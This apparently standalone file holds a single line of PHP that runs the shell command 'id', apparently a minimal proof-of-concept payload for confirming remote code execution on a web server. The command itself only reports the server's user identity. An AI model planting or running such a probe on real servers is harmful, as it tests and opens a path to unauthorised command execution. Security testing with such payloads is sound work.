<?php system('id');
